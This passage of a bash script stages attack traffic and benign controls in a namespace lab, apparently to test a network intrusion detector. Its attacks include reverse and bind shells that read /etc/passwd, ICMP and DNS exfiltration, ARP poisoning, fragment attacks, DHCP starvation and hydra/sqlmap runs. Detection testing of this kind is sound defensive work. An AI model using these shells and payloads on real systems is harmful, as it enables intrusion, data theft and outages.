scn_benign_print_scan_ipp_smb() {
	local i w=() p
	head -c 300000 /dev/urandom >"$tmp/job.pwg"
	printf '%%PDF-1.4\n' >"$tmp/scan.pdf" && head -c 400000 /dev/urandom >>"$tmp/scan.pdf"
	start_cupsd
	spawn nas "$py" "$tmp/raw9100.py" listen
	for i in $(seq 100 109); do user_smbd "h$i"; done
	for p in $(seq 50); do inns nas ss -Hltn 'sport = :631' | grep -q . && break; sleep 0.2; done
	sleep 3
	for i in $(seq 100 129); do
		if [ $((i % 2)) = 0 ]; then
			inns "h$i" ipptool -f "$tmp/job.pwg" -d filetype=application/octet-stream "ipp://$nas:631/printers/mfp" /usr/share/cups/ipptool/print-job.test >/dev/null 2>&1 & w+=($!)
		else
			inns "h$i" "$py" "$tmp/raw9100.py" send "$nas" "$tmp/job.pwg" & w+=($!)
		fi
	done
	wait "${w[@]}" || true
	sleep 2
	for i in $(seq 100 109); do # the MFP's scan-to-folder, user by user
		inns nas smbclient "//$NET.$i/scans" -U 'root%Scan-2026' -m SMB3 -c "put $tmp/scan.pdf scan-$i.pdf" >/dev/null 2>&1 || true
	done
	kill_in nas cupsd; kill_in nas python3
	for i in $(seq 100 109); do kill_in "h$i" smbd; done
}

# A backup at line rate over iSCSI: the backup server (PC2) reads a LUN on
# the NAS (tgtd, the Linux SCSI target framework in user space) with
# libiscsi's iscsi-perf (sequential 256 kB reads, 16 in flight), one TCP
# connection to 3260 at as many Gbit/s as the veths carry, in 1,500-byte
# frames as a wire carries them (segmentation offloads off).
scn_benign_iscsi_backup_tgt() {
	local h
	for h in nas pc2; do inns "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1 || true; done
	truncate -s 2G "$tmp/lun.img"
	spawn nas tgtd -f
	sleep 2
	inns nas tgtadm --lld iscsi --op new --mode target --tid 1 -T iqn.2026-12.lan.nas:backup
	inns nas tgtadm --lld iscsi --op new --mode logicalunit --tid 1 --lun 1 -b "$tmp/lun.img"
	inns nas tgtadm --lld iscsi --op bind --mode target --tid 1 -I ALL
	inns pc2 timeout 8 iscsi-perf -m 16 -b 512 "iscsi://$nas/iqn.2026-12.lan.nas:backup/1" || true
	kill_in nas tgtd
	for h in nas pc2; do inns "$h" ethtool -K eth0 tso on gso on gro on >/dev/null 2>&1 || true; done
}

# traffic_spike's LAN peer (session 26): a VPN site, 10.99.0.0/24, behind the
# gateway (a namespace wired to the gateway alone, not to the switch) and
# rsync daemons on the NAS and at the site; segmentation offloads off (frames
# as a wire carries them; record with SNAPLEN=66). Half an hour of pings
# builds the hosts' baselines (10 minutes of learning, 30 of history); then,
# each early in a minute of its own, the backup server (pc2) copies 22 MB to
# the NAS over the LAN, and the PC uploads the same 22 MB to the site, every
# frame of it to the gateway's MAC.
next_minute() { sleep $((65 - $(date +%s) % 60)); }
scn_spike_lan_backup_vpn_upload_rsync() {
	local h site=10.99.0.5
	ip netns add "$P-site"
	ip -n "$P-gw" link add eth1 type veth peer name eth0 netns "$P-site"
	ip -n "$P-gw" addr add 10.99.0.1/24 dev eth1
	ip -n "$P-gw" link set eth1 up
	ip -n "$P-site" link set lo up
	ip -n "$P-site" addr add "$site/24" dev eth0
	ip -n "$P-site" link set eth0 up
	ip -n "$P-site" route add default via 10.99.0.1
	inns gw sysctl -qw net.ipv4.ip_forward=1
	for h in gw pc pc2 nas site; do inns "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1 || true; done
	inns gw ethtool -K eth1 tso off gso off gro off >/dev/null 2>&1 || true
	mkdir -p "$tmp/rsyncd"
	printf '[backup]\npath = %s\nread only = false\nuse chroot = false\nuid = root\ngid = root\n' "$tmp/rsyncd" >"$tmp/rsyncd.conf"
	spawn nas rsync --daemon --no-detach --config="$tmp/rsyncd.conf"
	spawn site rsync --daemon --no-detach --config="$tmp/rsyncd.conf"
	head -c 22M /dev/urandom >"$tmp/backup.bin"
	for h in pc pc2 nas; do spawn "$h" ping -q -i 2 -c 1100 "$NET.1"; done
	spawn pc ping -q -i 5 -c 440 "$nas"
	sleep $((31 * 60))
	next_minute
	inns pc2 rsync -a "$tmp/backup.bin" "rsync://$nas/backup/lan.bin"
	next_minute
	inns pc rsync -a "$tmp/backup.bin" "rsync://$site/backup/vpn.bin"
	next_minute
	sleep 10
	kill_in pc ping; kill_in pc2 ping; kill_in nas ping; kill_in nas rsync; kill_in site rsync
}

# Session 26: a failover that announces for seconds without asking: bonding
# active-backup, fail_over_mac=active, num_grat_arp=5 with
# peer_notif_delay=1000 (a notification a second, as admins set it to outlast
# a switch port's spanning-tree learning) on an idle server (.104): the
# kernel's gratuitous ARP for the new MAC (arp_notify=1) and four more from
# scapy a second apart, nothing else for 12 s, then a ping of the gateway
# from the new card.
scn_benign_nic_failover_long_notify() {
	inns h104 sysctl -qw net.ipv4.conf.eth0.arp_notify=1
	inns h104 ping -q -c 6 -i 0.5 "$NET.1" || true
	sleep 2
	ip -n "$P-h104" link set dev eth0 address 00:1b:21:aa:01:04
	scapy h104 'ip = sys.argv[1]
for i in range(4):
    time.sleep(1)
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")' "$NET.104"
	sleep 8
	inns h104 ping -q -c 4 -i 0.5 "$NET.1" || true
	inns h104 sysctl -qw net.ipv4.conf.eth0.arp_notify=0
	ip -n "$P-h104" link set dev eth0 address 00:50:56:00:01:68
}
# A poisoner that never speaks for itself (no pings of its own: "silent")
# announcing an idle host's address (.105, which pinged the gateway first)
# in the same gratuitous ARP, once a second for 40 s, never asking.
scn_garp_idle_host_every_second_silent_scapy() {
	inns h105 ping -q -c 4 -i 0.5 "$NET.1" || true
	sleep 2
	scapy evil 'ip = sys.argv[1]
for i in range(40):
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")
    time.sleep(1)' "$NET.105"
}

# Session 26: make demo's staged scan, dated: the workstation (the PC)
# fetches a page from the NAS every 15 s, as demolife's workstations do,
# and 55 s after the first (inside the NAS's one-minute window) nmap -sS -T4
# --top-ports 100 scans the NAS and two quiet hosts.
scn_nmap_after_web_fetches() {
	local i
	for i in 1 2 3 4; do
		inns pc curl -s -o /dev/null "http://$nas/" || true
		sleep $((i < 4 ? 15 : 10))
	done
	inns pc nmap -sS -Pn -n -T4 --top-ports 100 "$nas" "$NET.100" "$NET.101"
}

# Session 35 (det35a): malformed IP (malformed_ip) and LAND from other
# ports, with their benign controls.
n6=$ULA::30
tonas='Ether(src=mac, dst="00:11:32:00:00:30")'
# teardrop.c's shape: a UDP datagram's first fragment (bytes 0-35) and a
# second at offset 24 lying inside it, 20 datagrams.
scn_teardrop_scapy() {
	scapy evil 'for i in range(20):
    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", id=1000+i, flags="MF", proto=17)/(raw(UDP(sport=40000, dport=53, len=36, chksum=0)) + b"\0"*28), iface="eth0")
    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", id=1000+i, frag=3, proto=17)/(b"\0"*4), iface="eth0")
    time.sleep(0.05)'
}
# scapy fragment() of ICMP echoes, the second fragment moved 8 bytes back
# over the first (fragroute's overlap, IDS evasion), 10 echoes.
scn_frag_overlap_icmp_scapy() {
	scapy evil 'for i in range(10):
    f = fragment(IP(src="'$NET.66'", dst="'$nas'", id=2000+i)/ICMP(id=7, seq=i)/(b"A"*80), fragsize=48)
    f[1].frag = 5
    for x in f:
        sendp('"$tonas"'/x, iface="eth0")
    time.sleep(0.1)'
}
# Ping of death: scapy fragment() of a 65,600-byte ICMP echo, twice.
scn_ping_of_death_scapy() {
	scapy evil 'for i in range(2):
    for x in fragment(IP(src="'$NET.66'", dst="'$nas'", id=3000+i)/ICMP(id=9, seq=i)/(b"X"*65600)):
        sendp('"$tonas"'/x, iface="eth0")
    time.sleep(0.5)'
}
# Loose and strict source-routed echoes through the gateway, 5 each.
scn_lsrr_ssrr_scapy() {
	scapy evil 'for i in range(5):
    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", options=[IPOption_LSRR(routers=["'$NET.1'"])])/ICMP(id=11, seq=i), iface="eth0")
    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", options=[IPOption_SSRR(routers=["'$NET.1'"])])/ICMP(id=12, seq=i), iface="eth0")
    time.sleep(0.2)'
}
# iputils ping -R: record route echoes (Low).
scn_ping_record_route() { inns evil ping -q -R -c 5 -i 0.3 "$nas" || true; }
# IPv6: echoes in two fragments whose second starts 8 bytes inside the
# first (RFC 5722 forbids it), and echoes with a type 0 routing header.
scn_v6_frag_overlap_scapy() {
	scapy evil 'for i in range(10):
    b = raw((IPv6(src="'$ULA::66'", dst="'$n6'")/ICMPv6EchoRequest(id=13, seq=i, data=b"A"*56))[ICMPv6EchoRequest])
    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrFragment(nh=58, id=4000+i, m=1, offset=0)/Raw(b[:48]), iface="eth0")
    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrFragment(nh=58, id=4000+i, m=0, offset=5)/Raw(b[40:]), iface="eth0")
    time.sleep(0.1)'
}
scn_v6_rh0_scapy() {
	scapy evil 'for i in range(5):
    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrRouting(type=0, addresses=["'$ULA::1'"])/ICMPv6EchoRequest(id=14, seq=i), iface="eth0")
    time.sleep(0.2)'
}
# LAND from changing source ports: hping3 -a NAS -S to the NAS's port 80,
# each SYN from the next source port.
scn_hping_land_ports() { inns evil hping3 -q -S -a "$nas" -p 80 -c 200 -i u5000 "$nas" || true; }
# Benign: pings of 3000 bytes over IPv4 and IPv6 (two and three fragments),
# 8000-byte UDP datagrams (NFS over UDP's shape), an IGMP join (router
# alert option) and an MLD one (hop-by-hop router alert). GRE (the lab
# kernel has no gre module) and path MTU are not staged.
scn_benign_fragments() {
	inns pc ping -q -c 5 -i 0.3 -s 3000 "$nas" || true
	inns pc ping -6 -q -c 5 -i 0.3 -s 3000 "$n6" || true
	inns pc "$py" -c 'import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20):
    s.sendto(bytes(8000), ("'$nas'", 2049)); time.sleep(0.05)
m = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
m.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton("239.1.2.3"), socket.inet_aton("'$NET.10'")))
m6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
m6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff05::1:3") + struct.pack("@I", socket.if_nametoindex("eth0")))
time.sleep(2)'
}

# Session 36 (det36b): cleartext command shells (remote_shell) and their
# benign controls. The operator on .66 types id, uname -a and cat
# /etc/passwd into a listening ncat; the NAS's shell connects out to it
# (reverse) or listens itself (bind).
operate() { # operate PORT: the operator's listener, commands fed with pauses
	(sleep 1.5; echo id; sleep 0.7; echo 'uname -a'; sleep 0.7; echo 'cat /etc/passwd'; sleep 0.7; echo exit; sleep 1) |
		inns evil timeout 10 ncat -l "$1" >"$tmp/operator.$1" 2>&1 &
	op=$!
	sleep 0.5
}
scn_revshell_bash_devtcp() { operate 4444; inns nas timeout 8 bash -c "bash -i >& /dev/tcp/$NET.66/4444 0>&1" || true; wait $op || true; }
scn_revshell_ncat_e() { operate 4445; inns nas timeout 8 ncat "$NET.66" 4445 -e /bin/sh || true; wait $op || true; }
scn_revshell_socat_pty() { operate 4446; inns nas timeout 8 socat tcp:"$NET.66":4446 exec:'sh -i',pty,stderr,setsid,sigint,sane || true; wait $op || true; }
scn_revshell_python_pty() {
	operate 443
	inns nas timeout 8 "$py" -c 'import socket, os, pty
s = socket.socket(); s.connect(("'$NET.66'", 443))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/sh")' || true
	wait $op || true
}
scn_bindshell_ncat() {
	inns nas timeout 8 ncat -l 4448 -e /bin/sh & local l=$!
	sleep 0.5
	(sleep 0.5; echo id; sleep 0.7; echo 'uname -a'; sleep 0.7; echo 'cat /etc/passwd'; sleep 0.7; echo exit; sleep 1) |
		inns evil timeout 8 ncat "$nas" 4448 || true
	wait $l || true
}
# An engineer on busybox telnetd (the device's own shell after telnet's
# negotiation, the prompt from the server) on 23 and on 2323: telnet's
# insecure_protocol, no remote_shell.
scn_telnet_busybox_shell() {
	inns nas timeout 9 busybox telnetd -F -p 23 -l /bin/sh & local t1=$!
	inns nas timeout 9 busybox telnetd -F -p 2323 -l /bin/sh & local t2=$!
	sleep 0.5
	for port in 23 2323; do
		(sleep 1; echo id; sleep 0.5; echo 'uname -a'; sleep 0.5; echo 'cat /etc/passwd'; sleep 0.5; echo exit; sleep 0.5) |
			inns pc timeout 5 telnet "$nas" "$port" || true
	done
	wait $t1 $t2 || true
}
# Benign: two engineers chatting through nc, and syslog lines over TCP
# carrying "uid=0" text.
scn_benign_nc_chat_syslog() {
	(sleep 0.5; echo 'hi, did the backup job finish?'; sleep 0.7; echo 'ok, thanks $ '; sleep 0.5) | inns pc2 timeout 4 nc -l 5555 & local c=$!
	sleep 0.3
	(sleep 1; echo 'yes, at 02:14, 3.2 GB'; sleep 0.5; echo 'uid=0 check done'; sleep 1) | inns pc timeout 3 nc -N "$NET.11" 5555 || true
	inns nas timeout 3 nc -l 6514 >/dev/null & local s=$!
	sleep 0.3
	inns pc logger -T -n "$nas" -P 6514 'pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)' || true
	inns pc logger -T -n "$nas" -P 6514 'uid=0(root) gid=0(root) groups=0(root)' || true
	wait $c $s || true
}

# Session 36 (det36b): nmap -sU against a PXE boot server while a client
# boots: the gateway's dnsmasq offers pxelinux.0 from the NAS (siaddr and
# file), tftpd-hpa on the NAS serves it, the PC's udhcpc takes the offer
# and tftp reads the file; .66 runs nmap -sU over ports 1-100 of the NAS,
# whose TFTP probe (a read of "r7tftp.txt") lands inside the boot's gather
# window. The scan's port_scan and the boot's TFTP Low; no Medium for .66.
scn_pxe_boot_nmap_sU() {
	mkdir -p "$tmp/tftp"; head -c 40000 /dev/urandom >"$tmp/tftp/pxelinux.0"; chmod -R a+rX "$tmp/tftp"
	ip netns pids "$P-gw" | xargs -r kill; sleep 0.5
	spawn gw dnsmasq -k --no-resolv --no-hosts --addn-hosts="$tmp/hosts" --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw.leases" --dhcp-boot=pxelinux.0,,$nas
	inns nas timeout 20 in.tftpd -L -s "$tmp/tftp" & local td=$!
	sleep 1
	inns pc2 timeout 5 busybox udhcpc -i eth0 -n -q -f -s /bin/true || true
	inns evil timeout 15 nmap -sU -Pn -n -r -T4 --max-retries 0 -p 1-100 "$nas" & local nm=$!
	sleep 0.3
	(cd "$tmp" && inns pc2 timeout 5 tftp "$nas" -c get pxelinux.0 /dev/null) || true
	wait $nm || true
	kill $td 2>/dev/null; wait $td 2>/dev/null || true
	ip netns pids "$P-gw" | xargs -r kill; sleep 0.5
	start_gw_dnsmasq
}

# Session 36 (det36a): tunnels in pings and DNS names under the old bars.
# ptunnel-ng: the proxy on the NAS forwards to a TCP service of its own
# (port 9000: 150 kB each way), the client on evil tunnels a connection to
# it through echo requests and replies.
icmp_data_py='import socket, os, sys
if sys.argv[1] == "serve":
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 9000)); s.listen(1)
    c, _ = s.accept(); c.sendall(os.urandom(150000)); n = 0
    while n < 150000:
        b = c.recv(65536)
        if not b: break
        n += len(b)
else:
    c = socket.create_connection(("127.0.0.1", 2222)); c.settimeout(20); c.sendall(os.urandom(150000)); n = 0
    while n < 150000:
        b = c.recv(65536)
        if not b: break
        n += len(b)'
scn_icmp_tunnel_ptunnel() {
	spawn nas "$py" -c "$icmp_data_py" serve
	spawn nas ptunnel-ng -r127.0.0.1 -R9000 -v 0; local proxy=$!
	sleep 1
	spawn evil ptunnel-ng -p "$nas" -l 2222 -r127.0.0.1 -R9000 -v 0; local client=$!
	sleep 1
	inns evil timeout 25 "$py" -c "$icmp_data_py" send || true
	kill "$client" "$proxy" 2>/dev/null || true
}
# An icmpsh-like reverse shell written in Python (raw sockets): the PC asks
# with echo requests carrying its command output in 64-byte chunks, the
# NAS (its kernel's echo answers off) replies with the next command.
scn_icmp_tunnel_icmpsh_python() {
	inns nas sysctl -qw net.ipv4.icmp_echo_ignore_all=1
	spawn nas "$py" -c 'import socket, struct
def csum(b):
    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
cmds = [b"id", b"uname -a", b"cat /etc/passwd", b"ls -la /home", b"ps aux", b"netstat -an"]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); i = 0
while True:
    p, a = s.recvfrom(65535); h = (p[0] & 15) * 4; t, c, _, ident, seq = struct.unpack("!BBHHH", p[h:h + 8])
    if t != 8: continue
    body = cmds[i % len(cmds)]; i += 1
    m = struct.pack("!BBHHH", 0, 0, 0, ident, seq) + body
    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], a)'
	sleep 1
	inns pc "$py" -c 'import socket, struct, time, subprocess
def csum(b):
    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
out = subprocess.run(["sh", "-c", "cat /etc/passwd /etc/services | head -c 4000"], capture_output=True).stdout
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
for seq in range(60):
    chunk = out[(seq * 64) % len(out):][:64].ljust(64, b" ")
    m = struct.pack("!BBHHH", 8, 0, 0, 0x1337, seq) + chunk
    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], ("'$nas'", 0))
    time.sleep(0.1)'
	inns nas sysctl -qw net.ipv4.icmp_echo_ignore_all=0
	for p in $(ip netns pids "$P-nas"); do grep -q IPPROTO_ICMP /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
# Benign pings: ping -s 1400 (60 rounds), ping -s 65000 (fragmented), path
# MTU probes of shrinking sizes (ping -M do), Windows' 32-byte alphabet
# (raw socket), fping polling 10 hosts 20 rounds.
scn_benign_icmp_pings() {
	spawn pc2 fping -q -c 20 -p 100 $(seq -f "$NET.%g" 100 109)
	inns pc ping -q -c 60 -i 0.05 -s 1400 "$nas" || true
	inns pc ping -q -c 5 -i 0.3 -s 65000 "$nas" || true
	for sz in 1472 1400 1300 1200 1000 800 576; do inns pc ping -q -M do -c 2 -i 0.1 -s $sz "$nas" || true; done
	inns evil "$py" -c 'import socket, struct, time
def csum(b):
    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for seq in range(40):
    m = struct.pack("!BBHHH", 8, 0, 0, 1, seq) + b"abcdefghijklmnopqrstuvwabcdefghi"
    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], ("'$nas'", 0)); time.sleep(0.05)'
	sleep 1
}
# iodine through A queries (-T A; -r: no raw UDP mode) to iodined on the
# NAS, a ping and 60 kB of pings through it: the A records a tunnel gets
# back are CNAME answers, its labels base32 or raw 8-bit.
scn_dns_tunnel_iodine_a() {
	spawn nas iodined -f -c -P tend-36a 172.31.36.1 t.tun.example; local srv=$!
	sleep 1
	spawn evil iodine -f -r -T A -P tend-36a "$nas" t.tun.example; local cli=$!
	sleep 6
	inns evil ping -q -c 30 -i 0.2 -s 1000 172.31.36.1 || true
	kill "$cli" "$srv" 2>/dev/null || true
}
# dnscat2-like exfiltration in Python: TXT queries of three 30-digit hex
# labels and a counter under x.exfil.example.com to the gateway's resolver.
scn_dns_exfil_txt_python() {
	inns pc "$py" -c 'import socket, struct, os, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
for i in range(40):
    name = [os.urandom(15).hex(), os.urandom(15).hex(), os.urandom(15).hex(), str(i), "x", "exfil", "example", "com"]
    q = struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name) + b"\0" + struct.pack("!HH", 16, 1)
    s.sendto(q, ("'$NET.1'", 53))
    try: s.recv(512)
    except OSError: pass
    time.sleep(0.1)'
}
# Benign: a mail server's and an office's lookups with hashed or random
# labels, 60 rounds to the gateway's resolver: Spamhaus DQS (reversed
# addresses, domains, HBL hashes under the key), Sophos, McAfee GTI and
# ESET reputation hashes, AWS ELB, CloudFront, Azure names, Google ad frame
# hashes, Chrome's random probes, AD SRV, DKIM, a PTR sweep and DNS-SD.
scn_benign_dns_hashed_lookups() {
	inns nas "$py" -c 'import socket, struct, os, time, random
r = random.Random(36); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.05)
key = "k7a3m9x2q5w8e1r4t6y0u2i3o5"
def q(i, t, name):
    m = struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", t, 1)
    s.sendto(m, ("'$NET.1'", 53))
    try: s.recv(512)
    except OSError: pass
h = lambda n: os.urandom(n).hex()
for i in range(60):
    for t, n in [(1, "%d.%d.113.203.%s.zen.dq.spamhaus.net" % (i, r.randrange(256), key)), (1, "sender%d.com.%s.dbl.dq.spamhaus.net" % (i, key)),
                 (16, "%s._email.%s.hbl.dq.spamhaus.net" % (h(20), key)), (16, "%s.%s.f.sxl.sophosxl.net" % (h(16), h(16))),
                 (1, "0.0.0.0.1.0.0.4e.%s.avqs.mcafee.com" % h(23)), (1, "%s.%s.a.e5.sk" % (h(20), h(8))),
                 (1, "internal-app%d-lb-%d.eu-west-1.elb.amazonaws.com" % (i, 1234567890 + i * 7919)), (28, "d%s.cloudfront.net" % h(7)[:13]),
                 (1, "contoso-web%d.trafficmanager.net" % i), (1, "st%s.blob.core.windows.net" % h(11)), (1, "%s.safeframe.googlesyndication.com" % h(16)),
                 (1, "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))), (33, "_ldap._tcp.dc._msdcs.corp.example.com"),
                 (16, "selector1._domainkey.sender%d.com" % i), (12, "%d.8.88.10.in-addr.arpa" % (i + 100)), (12, "_ipp._tcp.local"), (1, "teams.microsoft.com")]:
        q(i, t, n)
    time.sleep(0.1)'
}

# Session 36 (fix36b, review 36a P2 and P4): a web application on the NAS
# (webapp.py, Python's http.server on port 8088; serve.py holds 80): /login answers a wrong
# password 200 "Login failed" and the right one (Tr0ub4dor&3) 302 to
# /home, /item?id= a product page, /api/telemetry a JSON POST, /big.bin
# 2 MB.
cat >"$tmp/webapp.py" <<'EOF'
import http.server, urllib.parse
BIG = bytes(2000000)
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def reply(self, code, body, ctype="text/html", extra=()):
        self.send_response(code)
        for k, v in extra: self.send_header(k, v)
        self.send_header("Content-Type", ctype); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        if self.path == "/big.bin": return self.reply(200, BIG, "application/octet-stream")
        if self.path.startswith("/item"): return self.reply(200, b"<html><body>product 1: a widget</body></html>")
        self.reply(200, b'<html><form method="post" action="/login"><input name="user"><input name="pass" type="password"></form></html>')
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path.startswith("/api/"): return self.reply(200, b'{"ok":true}', "application/json")
        f = urllib.parse.parse_qs(body.decode(errors="replace"))
        if f.get("pass") == ["Tr0ub4dor&3"]: return self.reply(302, b"", extra=[("Location", "/home"), ("Set-Cookie", "sid=9f8e7d6c")])
        self.reply(200, b"<html><body>Login failed: invalid user name or password</body></html>")
http.server.ThreadingHTTPServer(("", 8088), H).serve_forever()
EOF
webapp() { spawn nas "$py" "$tmp/webapp.py"; sleep 1; }
kill_webapp() { local p; for p in $(ip netns pids "$P-nas"); do grep -q webapp.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true; }
# hydra against the form: 4 tasks, 80 passwords, failure page "failed".
scn_hydra_http_post_form() {
	webapp
	head -80 "$tmp/pw300" >"$tmp/pw80"
	(cd "$tmp" && inns evil hydra -l admin -P "$tmp/pw80" -I -t 4 -s 8088 "$nas" http-post-form '/login:user=^USER^&pass=^PASS^:F=failed') || true
	kill_webapp
}
# sqlmap's default level and risk against one parameter, 40 s at most.
scn_sqlmap_get() {
	webapp
	inns evil timeout 40 sqlmap -u "http://$nas:8088/item?id=1" --batch --flush-session --output-dir="$tmp/sqlmap" || true
	kill_webapp
}
# slowhttptest's slow read (-X): 150 connections, zero and tiny windows, 2 MB each.
scn_slowread_slowhttptest() {
	webapp
	inns evil slowhttptest -c 150 -X -r 50 -w 512 -y 1024 -n 5 -z 32 -k 3 -p 3 -l 20 -u "http://$nas:8088/big.bin" || true
	kill_webapp
}
# Benign: a browser-like login (the form, one wrong password, the right
# one, then the saved login re-sent five times), a JSON API client POSTing
# telemetry every 0.3 s, two pasted odd queries, and a rate-limited download.
scn_benign_web_login_api() {
	webapp
	local ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/133.0' i
	inns pc curl -s -o /dev/null -A "$ua" "http://$nas:8088/login" || true
	inns pc curl -s -o /dev/null -A "$ua" -d 'user=alice&pass=Tr0ub4dor%263x' "http://$nas:8088/login" || true
	for i in 1 2 3 4 5 6; do inns pc curl -s -o /dev/null -A "$ua" -d 'user=alice&pass=Tr0ub4dor%263' "http://$nas:8088/login" || true; sleep 0.5; done
	for i in $(seq 1 60); do inns pc2 curl -s -o /dev/null -H 'Content-Type: application/json' -d '{"device":"th-'$i'","temp":21.5,"token":"abc123"}' "http://$nas:8088/api/telemetry" || true; sleep 0.3; done
	inns pc curl -s -o /dev/null -A "$ua" "http://$nas:8088/item?id=1%27%20OR%20%271%27%3D%271" || true
	inns pc curl -s -o /dev/null -A "$ua" "http://$nas:8088/item?q=union+select+sleep(5)" || true
	inns pc curl -s -o /dev/null --limit-rate 200k "http://$nas:8088/big.bin" || true
	kill_webapp
}

# Session 36 (fix36d): an undeclared inventory agent (Lansweeper-like) on
# the PC2 asks every host of .100-.129 once: a request on TCP 135, 139,
# 445 and 22 (bash /dev/tcp) and an SNMP get (snmpget); two in three
# hosts answer on 135, 445 and 22 (socat, a line on each connection), the
# others (.102, .105, ...) refuse. A Medium host_sweep, an
# inventory scan to declare, not a High sweep.
scn_inventory_agent() {
	local i p js=() srv=()
	for i in $(seq 100 129); do
		[ $((i % 3)) = 0 ] && continue
		for p in 135 445 22; do
			inns "h$i" timeout 60 socat "TCP-LISTEN:$p,fork,reuseaddr" "SYSTEM:echo ok-$p" >/dev/null 2>&1 & srv+=($!)
		done
	done
	sleep 1
	for i in $(seq 100 129); do
		(
			for p in 135 139 445 22; do inns pc2 timeout 2 bash -c "echo x > /dev/tcp/$NET.$i/$p" 2>/dev/null || true; done
			inns pc2 snmpget -v2c -c public -t 1 -r 0 "$NET.$i" 1.3.6.1.2.1.1.1.0 >/dev/null 2>&1 || true
		) & js+=($!)
		if [ $((i % 8)) = 0 ]; then wait "${js[@]}"; js=(); fi
	done
	wait "${js[@]}"
	kill "${srv[@]}" 2>/dev/null; wait "${srv[@]}" 2>/dev/null || true
}

# restart_gw_dnsmasq: the gateway's dnsmasq afresh, its leases forgotten.
restart_gw_dnsmasq() {
	ip netns pids "$P-gw" | xargs -r kill; sleep 0.5
	rm -f "$tmp/gw.leases"; start_gw_dnsmasq; sleep 1
}
# Session 36 (fix36d): slow starvation (review 36a dhcp_starve_2s): .66
# sends one DISCOVER every 2 s under a new random client address, 58 in
# all; the gateway's dnsmasq offers each. Below 50 a minute, raised at the
# 50th forged client address never REQUESTed.
scn_dhcp_starve_slow_2s() {
	restart_gw_dnsmasq
	scapy evil 'for i in range(58):
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
          BOOTP(chaddr=mac2str(RandMAC()), xid=RandInt())/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0")
    time.sleep(2)'
	restart_gw_dnsmasq
}
# Benign: a busy guest Wi-Fi behind a MAC-translating repeater (pc2): 55
# phones join within 80 s, each DISCOVER and REQUEST sent under the
# repeater's MAC with the phone's client address and the broadcast flag;
# dnsmasq's 51-address pool serves 51, the last 4 retry unanswered. No
# starvation: each phone offered an address REQUESTs it.
scn_benign_guest_wifi_repeater() {
	restart_gw_dnsmasq
	scapy pc2 'conf.checkIPaddr = False
for i in range(55):
    ph = "da:a1:19:36:%02x:%02x" % (i // 256, i % 256)
    x = 0x3600 + i
    b = BOOTP(chaddr=mac2str(ph), xid=x, flags=0x8000)
    e = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)
    for k in range(2):
